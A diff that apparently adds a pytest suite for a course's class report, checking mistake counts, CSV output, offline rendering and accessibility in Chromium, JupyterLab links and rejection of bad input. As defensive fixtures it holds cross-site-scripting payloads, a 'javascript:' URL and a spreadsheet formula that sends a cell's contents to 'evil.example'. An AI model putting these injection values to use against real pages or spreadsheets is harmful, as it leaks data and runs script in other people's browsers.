@@ -1,0 +1,529 @@
+"""The class report (``make report``, and ``make grade``'s last step): what the class got wrong, what to re-teach.
+
+- A seeded class (``tests/report_class.py``: each learner's wrong answers
+  drawn from the catalogued mistakes and from ``UNLISTED``, which no mistake
+  explains): the page's and ``mistakes.csv``'s counts per exercise and per
+  mistake equal the seeded ones exactly, the unlisted answers are the groups
+  not yet named, and the CSV and the page agree.
+- Its page in Chromium, from the disk with the network blocked: no request
+  leaves ``report/``, every link to a lesson leads to a section of its
+  notebook, every picture has a text alternative, axe-core finds no serious
+  or critical violation, and it reads at 18 px in a 1280x720 window.
+- A learner whose answer, note and id hold ``<script>``, ``<img onerror>``
+  and ``=HYPERLINK(...)``: the page shows them as text and runs nothing, the
+  CSV neutralises them.
+- What a card says and where it links (relative, and into a hub's
+  JupyterLab), identical answers, and every bad input named.
+"""
+
+import csv
+import re
+import shutil
+import subprocess
+import sys
+import urllib.parse
+from pathlib import Path
+
+import pytest
+from bs4 import BeautifulSoup
+
+from conftest import chromium_or_skip
+from encoder_lib.grading import EXERCISES, class_report, report
+from report_class import COLUMNS, STUB, UNLISTED, copy_notebooks, seeded_class, write_graded, write_rows
+
+ROOT = Path(__file__).resolve().parent.parent
+LEARNERS = 60
+STATUS_COLUMNS = {"passed": "passed", "failed": "failed", "not answered": "not answered", "timeout": "timeouts",
+                  "tampered": "tampered"}
+
+
+def soup(path):
+    return BeautifulSoup(Path(path).read_text(), "html.parser")
+
+
+def number(text):
+    return int(text.split()[0])
+
+
+def read_mistakes(root):
+    with open(root / "report" / "mistakes.csv", newline="") as f:
+        return list(csv.DictReader(f))
+
+
+@pytest.fixture(scope="module")
+def seeded(tmp_path_factory):
+    root = tmp_path_factory.mktemp("course")
+    drawn = seeded_class(root, LEARNERS, seed=7, roster=True)
+    class_report.build(root)
+    return root, drawn
+
+
+# ------------------------------------------------------------------ the seeded class
+
+
+def counts_tables(page):
+    """``{exercise: {column: count}}`` from the lessons' tables."""
+    found = {}
+    for table in page.select("section:has(> h2#lessons) table"):
+        heads = [th.get_text(strip=True) for th in table.select("thead th")]
+        if "handed in" not in heads:
+            continue
+        for row in table.select("tbody tr"):
+            cells = [td.get_text(" ", strip=True) for td in row.select("td")]
+            exercise = row.select_one("td code").get_text()
+            found[exercise] = {head: number(cell) for head, cell in zip(heads[1:], cells[1:])}
+    return found
+
+
+def test_the_counts_per_exercise_are_the_seeded_ones(seeded):
+    root, drawn = seeded
+    tables = counts_tables(soup(root / "report" / "index.html"))
+    assert set(tables) == set(EXERCISES)
+    for exercise, statuses in drawn.statuses.items():
+        shown = tables[exercise]
+        assert shown["handed in"] == LEARNERS - statuses["missing"], exercise
+        for status, column in STATUS_COLUMNS.items():
+            assert shown[column] == statuses[status], (exercise, status)
+        assert shown["errors"] == statuses["error"] + statuses["memory"], exercise
+
+
+def cards_in(page, section):
+    """``{(exercise, title): learners}`` of the cards in ``section`` (an id of the page's h2)."""
+    found = {}
+    for card in page.select(f"section:has(> h2#{section}) .card"):
+        title = card.find(re.compile("h[34]"))
+        exercise, name = title.get_text().split(": ", 1)
+        found[exercise, name] = number(card.select_one(".count").get_text())
+    return found
+
+
+def test_each_named_mistake_counts_the_learners_seeded_with_it(seeded):
+    root, drawn = seeded
+    assert drawn.named, "the seed draws catalogued mistakes"
+    rows = {(r["exercise"], r["mistake"]): r for r in read_mistakes(root)}
+    cards = cards_in(soup(root / "report" / "index.html"), "mistakes")
+    for (exercise, mistake), students in drawn.named.items():
+        assert int(rows[exercise, mistake]["learners"]) == len(students), (exercise, mistake)
+        assert cards[exercise, mistake] == len(students), (exercise, mistake)
+        assert rows[exercise, mistake]["example_student_id"] == min(students)
+        answered = drawn.answered(exercise)
+        assert float(rows[exercise, mistake]["share"]) == pytest.approx(len(students) / answered, abs=1e-4)
+
+
+def test_the_unlisted_answers_are_the_groups_not_yet_named(seeded):
+    root, drawn = seeded
+    assert {u.exercise for u in UNLISTED} == {exercise for exercise, _ in drawn.unnamed}, "the seed draws each"
+    page = soup(root / "report" / "index.html")
+    cards = cards_in(page, "unnamed")
+    assert cards == {(exercise, f"not yet named ({signature})"): len(students)
+                     for (exercise, signature), students in drawn.unnamed.items()}
+    rows = {(r["exercise"], r["mistake"]): int(r["learners"]) for r in read_mistakes(root)}
+    for (exercise, signature), students in drawn.unnamed.items():
+        assert rows[exercise, class_report.UNNAMED + signature] == len(students)
+    examples = page.select("section:has(> h2#unnamed) .card pre")
+    sources = {u.source.strip() for u in UNLISTED}
+    assert len(examples) == len(drawn.unnamed)
+    assert all(example.get_text().strip() in sources for example in examples), "one example answer each"
+
+
+def test_the_csv_and_the_page_agree(seeded):
+    root, _ = seeded
+    page = soup(root / "report" / "index.html")
+    named = cards_in(page, "mistakes")
+    unnamed = cards_in(page, "unnamed")
+    rows = read_mistakes(root)
+    assert len(rows) == len(named) + len(unnamed)
+    for row in rows:
+        if row["mistake"].startswith(class_report.UNNAMED):
+            title = f"not yet named ({row['mistake'][len(class_report.UNNAMED):]})"
+            assert unnamed[row["exercise"], title] == int(row["learners"])
+        else:
+            assert named[row["exercise"], row["mistake"]] == int(row["learners"])
+    learners = [int(r["learners"]) for r in rows]
+    assert learners == sorted(learners, reverse=True), "largest first"
+
+
+def test_the_top_cards_are_the_groups_that_cost_most_learners(seeded):
+    root, _ = seeded
+    page = soup(root / "report" / "index.html")
+    top = [number(card.select_one(".count").get_text()) for card in page.select("section.card[id^=top-]")]
+    most = sorted((int(r["learners"]) for r in read_mistakes(root)), reverse=True)[:class_report.TOP_CARDS]
+    assert top == most
+
+
+def test_the_hardest_exercises_have_the_lowest_pass_rates_among_those_who_answered(seeded):
+    root, drawn = seeded
+    page = soup(root / "report" / "index.html")
+    listed = [row.select_one("code").get_text() for row in page.select("section:has(> h2#hardest) tbody tr")]
+    rate = {e: drawn.statuses[e]["passed"] / drawn.answered(e) for e in drawn.statuses}
+    assert len(listed) == class_report.HARDEST
+    assert [rate[e] for e in listed] == sorted(rate.values())[:class_report.HARDEST]
+
+
+def test_the_learners_who_may_need_help_are_those_who_passed_under_half(seeded):
+    root, drawn = seeded
+    page = soup(root / "report" / "index.html")
+    listed = {row.select_one("td").get_text().split()[0] for row in page.select("section:has(> h2#help) tbody tr")}
+    passed = {}
+    for student, _lesson, _exercise, _points, _most, status, *_ in drawn.rows:
+        passed.setdefault(student, []).append(status == "passed" or status == "tampered")
+    assert listed == {s for s, ok in passed.items() if sum(ok) <= len(ok) / 2}
+    assert "Ada Learner" in page.select_one("section:has(> h2#help) table").get_text(), "names from the roster"
+
+
+def test_each_lesson_has_a_score_histogram_whose_alt_text_gives_its_numbers(seeded):
+    root, drawn = seeded
+    page = soup(root / "report" / "index.html")
+    for lesson in dict.fromkeys(e.lesson for e in EXERCISES.values()):
+        picture = page.select_one(f"h3#lesson-{lesson} + img")
+        assert picture["src"].startswith("data:image/png;base64,")
+        handed = {r[0] for r in drawn.rows if r[1] == lesson and r[5] != "missing"}
+        assert f"of the {len(handed)} learners who handed it in" in picture["alt"]
+
+
+def test_identical_answers_of_the_seeded_class_are_the_learners_of_one_non_trivial_wrong_answer(seeded):
+    root, drawn = seeded
+    page = soup(root / "report" / "index.html")
+    listed = {tuple(row.select("td")[2].get_text().split(", ")) for row in page.select("section:has(> h2#identical) tr")
+              if row.select("td")}
+    by_text = {}
+    for (student, lesson, exercise), source in drawn.wrong.items():
+        if class_report.fingerprint(source) is not None:
+            by_text.setdefault((exercise, source), set()).add(student)
+    expected = {tuple(sorted(students)) for students in by_text.values() if len(students) > 1}
+    assert expected and listed == expected
+
+
+def test_make_report_writes_the_page_from_the_csv_alone_without_grading(tmp_path):
+    seeded_class(tmp_path, 8, seed=3)
+    shutil.rmtree(tmp_path / "autograded")  # no answers to read: still a page, and it says so
+    for name in ("Makefile", "pyproject.toml"):
+        shutil.copy(ROOT / name, tmp_path / name)
+    (tmp_path / ".venv").symlink_to(Path(sys.executable).parent.parent)
+    done = subprocess.run(["make", "-o", ".venv/.installed", "report", "LESSONS=01_attention,04_add_and_norm"],
+                          cwd=tmp_path, capture_output=True, text=True, timeout=300)
+    assert done.returncode == 0, done.stdout + done.stderr
+    assert "report/index.html" in done.stdout
+    page = soup(tmp_path / "report" / "index.html")
+    assert [h.get_text() for h in page.select("h3[id^=lesson-]")] == ["01_attention", "04_add_and_norm"]
+    assert {r["lesson"] for r in read_mistakes(tmp_path)} <= {"01_attention", "04_add_and_norm"}
+    assert not (tmp_path / "autograded").exists() and not (tmp_path / "feedback").exists(), "nothing graded"
+
+
+def test_make_report_without_a_grading_says_to_grade_first(tmp_path):
+    done = subprocess.run([sys.executable, "-m", "encoder_lib.grading.class_report", "--root", str(tmp_path)],
+                          capture_output=True, text=True, cwd=ROOT)
+    assert done.returncode == 2
+    assert "grades_by_exercise.csv is missing: run `make grade` first" in done.stderr
+
+
+# ------------------------------------------------------------------ a learner's hostile text
+
+HOSTILE = '<script>alert(1)</script><img src=x onerror="alert(2)">'
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory):
+    """A class of three: two honest learners and one whose answer, error message and id are hostile."""
+    root = tmp_path_factory.mktemp("hostile")
+    copy_notebooks(root)
+    solution = __import__("json").loads((root / "notebooks/01_attention/01_attention.ipynb").read_text())
+    answer = f"def softmax(x, axis=-1):\n    # {HOSTILE}\n    raise ValueError('{HOSTILE} {FORMULA}')\n"
+    write_graded(root, "mallory", "01_attention", solution, {"softmax": answer})
+    odd_id = FORMULA + HOSTILE
+    rows = []
+    for student in ("alice", "bob", "mallory", odd_id):
+        bad = student in ("mallory", odd_id)
+        rows.append((student, "01_attention", "softmax", 0.0 if bad else 2.0, 2.0, "failed" if bad else "passed",
+                     f"{FORMULA} it raised ValueError: {HOSTILE}" if bad else "", "", HOSTILE if bad else ""))
+        rows.append((student, "01_attention", "scaled_dot_product_attention", 2.0, 2.0, "passed", "", "", ""))
+    write_rows(root, rows)
+    class_report.build(root)
+    return root
+
+
+def test_the_csv_neutralises_what_a_spreadsheet_would_read_as_a_formula(hostile):
+    text = (hostile / "report" / "mistakes.csv").read_text()
+    for row in csv.reader(text.splitlines()):
+        for value in row:
+            assert not value.startswith(report.FORMULA_STARTS), value
+    assert "'=HYPERLINK" in text, "the id is kept, as text"
+
+
+def test_the_page_shows_the_hostile_text_as_text_and_has_no_script_or_handler(hostile):
+    page = soup(hostile / "report" / "index.html")
+    assert not page.find_all("script")
+    assert not [tag for tag in page.find_all(True) if any(a.startswith("on") for a in tag.attrs)]
+    assert [img["src"][:22] for img in page.find_all("img")] == ["data:image/png;base64,"] * len(page.find_all("img"))
+    text = page.get_text()
+    assert HOSTILE in text and FORMULA in text, "shown as the learner wrote it"
+    policy = page.select_one('meta[http-equiv="Content-Security-Policy"]')["content"]
+    assert "default-src 'none'" in policy and "script-src" not in policy
+
+
+@pytest.fixture(scope="module")
+def chromium():
+    yield from chromium_or_skip("the class report's browser tests drive Chromium with Playwright")
+
+
+def test_in_chromium_the_hostile_page_runs_nothing_and_shows_the_text(chromium, hostile):
+    import site_pages
+
+    with site_pages.offline(chromium) as context:
+        dialogs = []
+        context.on("page", lambda page: page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss())))
+        page = site_pages.open_page(context, hostile / "report" / "index.html")
+        assert page.evaluate("document.scripts.length") == 0
+        assert HOSTILE in page.inner_text("body") and FORMULA in page.inner_text("body")
+        page.wait_for_timeout(500)
+        assert dialogs == [] and page.problems == []
+
+
+# ------------------------------------------------------------------ the page in Chromium
+
+_JS_SMALL_TEXT = """() => {
+    const small = [];
+    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
+    while (walker.nextNode()) {
+        const node = walker.currentNode;
+        if (!node.textContent.trim()) continue;
+        const element = node.parentElement;
+        if (!element.getClientRects().length) continue;  // inside a closed disclosure
+        const size = parseFloat(getComputedStyle(element).fontSize);
+        if (size < 18) small.push(element.tagName + ' ' + size + ': ' + node.textContent.trim().slice(0, 40));
+    }
+    return small;
+}"""
+
+
+def heading_ids(notebook):
+    """The ids JupyterLab gives the headings of a notebook's markdown cells."""
+    import json
+
+    ids = set()
+    for cell in json.loads(Path(notebook).read_text())["cells"]:
+        if cell["cell_type"] == "markdown":
+            source = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
+            ids |= {class_report.heading_anchor(m) for m in re.findall(r"^#{1,6}\s+(.+?)\s*$", source, re.M)}
+    return ids
+
+
+def test_in_chromium_offline_the_page_loads_nothing_from_outside_its_folder(chromium, seeded):
+    import site_pages
+
+    root, _ = seeded
+    with site_pages.offline(chromium, {"width": 1280, "height": 720}) as context:
+        page = site_pages.open_page(context, root / "report" / "index.html")
+        inside = (root / "report").as_uri() + "/"
+        assert [u for u in context.requests if not u.startswith(inside) and not u.startswith("data:")] == []
+        assert page.problems == []
+
+
+def test_in_chromium_every_link_to_a_lesson_leads_to_a_section_of_its_notebook(chromium, seeded):
+    import site_pages
+
+    root, _ = seeded
+    with site_pages.offline(chromium) as context:
+        page = site_pages.open_page(context, root / "report" / "index.html")
+        links = page.evaluate("[...document.querySelectorAll('a[href]')].map(a => a.href)")
+        ids = set(page.evaluate("[...document.querySelectorAll('[id]')].map(e => e.id)"))
+    lessons = [link for link in links if "/notebooks/" in link]
+    assert lessons, "the cards link to their lessons"
+    for link in links:
+        path, _, anchor = link.partition("#")
+        if link in lessons:
+            notebook = site_pages.file_of(path)
+            assert notebook.is_file(), link
+            assert anchor and urllib.parse.unquote(anchor) in heading_ids(notebook), link
+        elif path == (root / "report" / "index.html").as_uri():
+            assert anchor in ids, link
+        else:
+            assert path == (root / "report" / "mistakes.csv").as_uri(), link
+
+
+def test_in_chromium_every_picture_is_drawn_and_has_a_text_alternative(chromium, seeded):
+    import site_pages
+
+    root, _ = seeded
+    with site_pages.offline(chromium) as context:
+        page = site_pages.open_page(context, root / "report" / "index.html")
+        pictures = page.evaluate("[...document.images].map(i => ({alt: i.alt, drawn: i.complete && "
+                                 "i.naturalWidth > 0}))")
+    assert len(pictures) == len(class_report.course_lessons()) + len(
+        {(r["lesson"], r["exercise"]) for r in read_mistakes(root)})
+    assert all(p["drawn"] and len(p["alt"]) > 40 for p in pictures), pictures
+
+
+def test_in_chromium_the_page_reads_at_18_px_in_a_1280_by_720_window(chromium, seeded):
+    import site_pages
+
+    root, _ = seeded
+    with site_pages.offline(chromium, {"width": 1280, "height": 720}) as context:
+        page = site_pages.open_page(context, root / "report" / "index.html")
+        page.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")
+        assert page.evaluate(_JS_SMALL_TEXT) == []
+        assert page.evaluate("document.documentElement.scrollWidth") <= 1280, "no sideways scrolling"
+
+
+def test_in_chromium_axe_core_finds_no_serious_or_critical_violation(chromium, seeded):
+    import site_pages
+    from axe_playwright_python.sync_playwright import Axe
+
+    root, _ = seeded
+    with site_pages.offline(chromium, {"width": 1280, "height": 720}) as context:
+        page = site_pages.open_page(context, root / "report" / "index.html")
+        page.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")
+        height = page.evaluate("document.documentElement.scrollHeight")
+        page.set_viewport_size({"width": 1280, "height": min(height, 60_000)})  # axe checks colours on the screen
+        results = Axe().run(page, options={"resultTypes": ["violations"]})
+    serious = [(v["id"], v["help"], [n["target"] for n in v["nodes"]][:3]) for v in results.response["violations"]
+               if v["impact"] in ("serious", "critical")]
+    assert serious == []
+
+
+# ------------------------------------------------------------------ cards and links
+
+
+def group(exercise, key, named=True, students=("a",)):
+    return class_report.Group(EXERCISES[exercise].lesson, exercise, key, named, list(students))
+
+
+def test_a_card_of_a_mistake_with_its_own_hints_gives_its_own_idea():
+    built = class_report.card(group("softmax", "softmax_without_max"), class_report.Links())
+    assert "inf / inf is NaN" in built.idea
+    assert '<a href="../notebooks/01_attention/01_attention.ipynb#The-softmax">' in built.idea
+    assert built.sections == (("The-softmax", "The softmax"),)
+
+
+def test_a_card_of_a_mistake_without_hints_or_not_yet_named_gives_its_exercise_s_idea():
+    bare = next((e.name, m.name) for e in EXERCISES.values() for m in e.mistakes if not m.hints and e.hints)
+    idea = class_report.card(group(*bare), class_report.Links()).idea
+    assert idea == class_report.card(group(bare[0], "sums", named=False), class_report.Links()).idea
+    assert class_report._CardMarkdown(class_report.Links(), EXERCISES[bare[0]].lesson).render(
+        EXERCISES[bare[0]].hints[0]) == idea
+
+
+def test_a_card_of_a_mistake_the_catalogue_no_longer_has_still_has_its_exercise_s_idea():
+    built = class_report.card(group("softmax", "renamed_since"), class_report.Links())
+    assert "no longer names" in built.explanation and "The softmax" in built.idea
+
+
+def test_on_a_hub_a_lesson_opens_in_the_teacher_s_jupyterlab(tmp_path):
+    home = tmp_path / "home"
+    links = class_report.lab_links(home / "encoder-course", environ={"JUPYTERHUB_SERVICE_PREFIX": "/user/teach/",
+                                                                     "JUPYTER_SERVER_ROOT": str(home)})
+    assert links.in_lab("01_attention", "The-softmax") == \
+        "/user/teach/lab/tree/encoder-course/notebooks/01_attention/01_attention.ipynb#The-softmax"
+    assert class_report.lab_links(tmp_path, environ={}).in_lab("01_attention") is None, "off a hub: no link"
+    outside = class_report.lab_links(tmp_path / "elsewhere", "https://hub.example.org/user/t/", home, environ={})
+    assert outside.in_lab("01_attention") is None, "a course outside JupyterLab's folder has no address in it"
+    given = class_report.lab_links(home / "c", "https://hub.example.org/user/t/", home, environ={})
+    assert given.in_lab("01_attention") == "https://hub.example.org/user/t/lab/tree/c/notebooks/01_attention/" \
+                                           "01_attention.ipynb"
+
+
+@pytest.mark.parametrize("url", ["javascript:alert(1)", 'https://hub.example.org/"onmouseover=x', "hub.example.org",
+                                 "https://hub.example.org/user/ t/"])
+def test_a_lab_url_that_is_not_an_address_is_refused_and_named(url):
+    with pytest.raises(ValueError, match="lab_url must be JupyterLab's address"):
+        class_report.lab_links(".", url)
+
+
+def test_the_heading_anchor_is_jupyterlab_s():
+    assert class_report.heading_anchor("Layer norm on the lesson's input") == "Layer-norm-on-the-lesson's-input"
+    assert class_report.heading_anchor("`softmax(x, axis=-1)`") == "softmax(x,-axis=-1)"
+
+
+# ------------------------------------------------------------------ identical answers
+
+SOFTMAX = "def softmax(x, axis=-1):\n    m = x.max(axis=axis, keepdims=True)\n    e = np.exp(x - m)\n" \
+          "    total = e.sum(axis=axis, keepdims=True)\n    return e / total\n"
+RENAMED = '# mine\ndef softmax(scores, axis=-1):\n    """My softmax."""\n    top = scores.max(axis=axis, keepdims=True)' \
+          '\n    exps = np.exp(scores - top)   # shifted\n\n    s = exps.sum(axis=axis, keepdims=True)\n' \
+          '    return exps / s\n'
+
+
+def test_answers_that_differ_only_in_whitespace_comments_docstrings_and_names_have_one_fingerprint():
+    assert class_report.fingerprint(SOFTMAX) == class_report.fingerprint(RENAMED) is not None
+    assert class_report.fingerprint(SOFTMAX) != class_report.fingerprint(SOFTMAX.replace("x - m", "m - x"))
+    assert class_report.fingerprint(SOFTMAX) != class_report.fingerprint(SOFTMAX.replace("axis=axis", "axis=-1"))
+
+
+def test_trivial_answers_and_what_is_not_python_have_no_fingerprint():
+    assert class_report.fingerprint("def softmax(x, axis=-1):\n    return x\n") is None
+    assert class_report.fingerprint(STUB) is None
+    assert class_report.fingerprint("def softmax(x:\n") is None
+
+
+def identical_class(root, answers):
+    copy_notebooks(root)
+    solution = __import__("json").loads((root / "notebooks/01_attention/01_attention.ipynb").read_text())
+    rows = []
+    for student, source in answers.items():
+        write_graded(root, student, "01_attention", solution, {"softmax": source})
+        status = "not answered" if source == STUB else "passed"
+        rows.append((student, "01_attention", "softmax", 2.0 * (status == "passed"), 2.0, status, "", "", ""))
+    write_rows(root, rows)
+    class_report.build(root)
+    return [(students, shared) for students, shared in class_report.identical_answers(
+        class_report.Answers.read(root, class_report.read_rows(root / "grades_by_exercise.csv")[0]),
+        class_report.read_rows(root / "grades_by_exercise.csv")[0])]
+
+
+def test_two_learners_with_the_same_answer_up_to_names_are_listed_and_nobody_else(tmp_path):
+    solution = next(c for c in __import__("json").loads((ROOT / "notebooks/01_attention/01_attention.ipynb")
+                                                        .read_text())["cells"]
+                    if c["metadata"].get("nbgrader", {}).get("grade_id") == "softmax_answer")
+    found = identical_class(tmp_path, {"ann": SOFTMAX, "ben": RENAMED, "cat": SOFTMAX.replace("x - m", "m - x"),
+                                       "dan": STUB, "eve": STUB, "fay": "".join(solution["source"]),
+                                       "gus": "".join(solution["source"]).replace("x", "y")})
+    assert found == [(("ann", "ben"), [("01_attention", "softmax")])]
+    page = soup(tmp_path / "report" / "index.html")
+    assert [row.select("td")[2].get_text() for row in page.select("section:has(> h2#identical) tbody tr")] == ["ann, ben"]
+
+
+# ------------------------------------------------------------------ bad input, named
+
+
+def write_csv_text(path, text):
+    path.write_text(text)
+    return path
+
+
+@pytest.mark.parametrize("text, words", [
+    ("a,b\n1,2\n", "is not a grades_by_exercise.csv: its first line must name the columns"),
+    (",".join(COLUMNS) + "\nann,01_attention,softmax,2,2,pased,,,\n", "line 2: status must be one of"),
+    (",".join(COLUMNS) + "\nann,01_attention,softmax,two,2,passed,,,\n", "line 2: points must be a number"),
+    (",".join(COLUMNS) + "\nann,01_attention,softmax,2,2,passed,,,\nann,01_attention,softmax,2,2,passed,,,\n",
+     "line 3 repeats the row of line 2"),
+    (",".join(COLUMNS) + "\nann,01_attention\n", "line 2 has 2 fields, not the 9 of its header"),
+])
+def test_a_csv_that_is_not_what_make_grade_writes_is_refused_with_its_line(tmp_path, text, words):
+    with pytest.raises(ValueError, match=re.escape(words)):
+        class_report.read_rows(write_csv_text(tmp_path / "grades_by_exercise.csv", text))
+
+
+def test_a_csv_of_an_older_make_grade_is_read_and_the_page_says_to_grade_again(tmp_path):
+    copy_notebooks(tmp_path)
+    write_csv_text(tmp_path / "grades_by_exercise.csv", ",".join(report.COLUMNS) + "\n"
+                   "ann,01_attention,softmax,0,2,failed,it differs\n")
+    rows, has_mistakes = class_report.read_rows(tmp_path / "grades_by_exercise.csv")
+    assert not has_mistakes and rows[0].mistakes == () and rows[0].diagnosis == ""
+    class_report.build(tmp_path)
+    assert "make grade FORCE=1" in (tmp_path / "report" / "index.html").read_text()
+
+
+def test_a_field_written_neutralised_reads_back_as_it_was():
+    for text in ("=1+1", "-3", "@me", "plain", "'quoted"):
+        assert class_report._unquoted(report.csv_field(text)) == text
+
+
+def test_lessons_that_are_not_the_course_s_are_refused_and_named(tmp_path):
+    with pytest.raises(ValueError, match=r"lessons must name lessons of the course .*'09_nope'"):
+        class_report.lesson_order([], ["01_attention", "09_nope"])
+
+
+def test_a_root_that_is_not_a_folder_is_refused_and_named(tmp_path):
+    with pytest.raises(ValueError, match="root must be the course folder"):
+        class_report.build(tmp_path / "nowhere")
